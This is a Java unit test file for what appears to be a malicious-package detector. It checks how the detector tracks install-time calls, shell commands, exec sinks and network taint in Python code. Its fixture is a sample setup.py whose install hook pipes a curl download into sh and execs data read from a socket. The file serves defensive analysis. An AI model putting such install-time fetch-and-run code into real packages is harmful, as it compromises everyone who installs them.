package dev.kingsnake.spi.facts;

import dev.kingsnake.Limits;
import dev.kingsnake.Reach;
import dev.kingsnake.internal.python.ParseOutcome;
import dev.kingsnake.internal.python.PythonParser;
import dev.kingsnake.internal.python.semantic.SemanticModel;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.python.Expr;
import dev.kingsnake.spi.python.Node;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.function.BiFunction;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The facts' memos and walks against the plain computations they stand for: the install-time calls kept per
 * file, the command of a call kept per call, the calls of {@link CallFacts} in the model's order, and the taint of
 * names kept per function.
 */
class FactFastPathsTest {
    private static final String SETUP = String.join("\n",
            "import os, socket, subprocess",
            "from setuptools import setup",
            "from setuptools.command.install import install",
            "def run(cmd):",
            "    subprocess.call(cmd, shell=True)",
            "def recv():",
            "    reply = socket.socket().recv(10)",
            "    exec(reply)",
            "def other():",
            "    reply = 'print(1)'",
            "    exec(reply)",
            "def uses_module():",
            "    exec(data)",
            "data = socket.socket().recv(5)",
            "class Post(install):",
            "    def run(self):",
            "        '''docstring: ' + 'not behaviour'''",
            "        run('curl https://example.invalid/x | sh')",
            "        os.system('echo hi')",
            "        f = lambda: os.system('ls')",
            "setup(name='p', cmdclass={'install': Post})",
            "os.system('make')",
            "");

    private static PythonFile file(String path, String source) {
        byte[] bytes = source.getBytes(StandardCharsets.UTF_8);
        ParseOutcome out = new PythonParser(Limits.defaults()).parse(path, bytes);
        return new SemanticModel(path, bytes, out.text(), out.module(), false, List.of(), Optional.empty());
    }

    private static List<Expr.Call> walkedCalls(PythonFile f) {
        List<Expr.Call> out = new ArrayList<>();
        for (Node n : f.nodes()) {
            if (n instanceof Expr.Call c) {
                out.add(c);
            }
        }
        return out;
    }

    @Test
    void installTimeCallsAreTheCallsOfInstallReachComputedOnce() {
        for (String path : List.of("pkg/setup.py", "pkg/mod.py")) {
            PythonFile f = file(path, SETUP);
            List<Expr.Call> expected = new ArrayList<>();
            for (Expr.Call c : f.calls()) {
                if (Activity.reach(f, c) == Reach.INSTALL_TIME) {
                    expected.add(c);
                }
            }
            List<Expr.Call> got = Activity.installTimeCalls(f);
            assertEquals(expected, got, path);
            assertSame(got, Activity.installTimeCalls(f), "kept per file");
            if (path.endsWith("setup.py")) {
                assertTrue(got.size() > 3, "setup.py runs its module code and the command class");
            }
        }
    }

    /** Asks {@code memoised} twice and {@code plain} once of every call; returns how many calls have an answer. */
    private static <T> int assertKeptPerCall(PythonFile f, BiFunction<DataFlow, Expr.Call, Optional<T>> plain,
                                             BiFunction<DataFlow, Expr.Call, Optional<T>> memoised) {
        DataFlow flow = DataFlow.of(f);
        int answers = 0;
        for (Expr.Call c : f.calls()) {
            Optional<T> expected = plain.apply(flow, c);
            Optional<T> first = memoised.apply(flow, c);
            assertEquals(expected, first, () -> "line " + c.line());
            assertSame(first, memoised.apply(flow, c), "kept per call");
            answers += first.isPresent() ? 1 : 0;
        }
        return answers;
    }

    @Test
    void aCallsCommandIsFoundOnceAndIsTheComputedOne() {
        int commands = assertKeptPerCall(file("pkg/setup.py", SETUP), Commands::compute, Commands::of);
        assertTrue(commands >= 4, "the sample starts processes, one through a local wrapper: " + commands);
    }

    @Test
    void aCallsCodeSinkIsFoundOnceAndIsTheComputedOne() {
        assertEquals(3, assertKeptPerCall(file("pkg/setup.py", SETUP), ExecSinks::compute, ExecSinks::of),
                "the three exec calls");
    }

    @Test
    void callFactsListTheModelsCallsInOrder() {
        PythonFile f = file("pkg/setup.py", SETUP);
        List<Expr.Call> got = new ArrayList<>();
        for (CallFacts.CallFact c : CallFacts.of(f).calls()) {
            got.add(c.call());
        }
        assertEquals(walkedCalls(f), got);
        // the lambda and every def open a scope of their own; the module is 0
        assertEquals(1 + 5 + 1, CallFacts.of(f).scopeCount());
    }

    @Test
    void aNameIsTaintedInItsOwnFunctionOrFromTheModule() {
        PythonFile f = file("pkg/mod.py", SETUP);
        DataFlow flow = DataFlow.of(f);
        List<Set<DataFlow.Taint>> atExec = new ArrayList<>();
        for (Expr.Call c : f.calls()) {
            if ("exec".equals(flow.name(c))) {
                atExec.add(flow.taint(c.args().get(0)));
            }
        }
        assertEquals(3, atExec.size());
        assertTrue(atExec.get(0).contains(DataFlow.Taint.NETWORK), "recv(): its own reply");
        assertFalse(atExec.get(1).contains(DataFlow.Taint.NETWORK), "other(): a reply of its own, a constant");
        assertTrue(atExec.get(2).contains(DataFlow.Taint.NETWORK), "uses_module(): the module's data");
    }
}
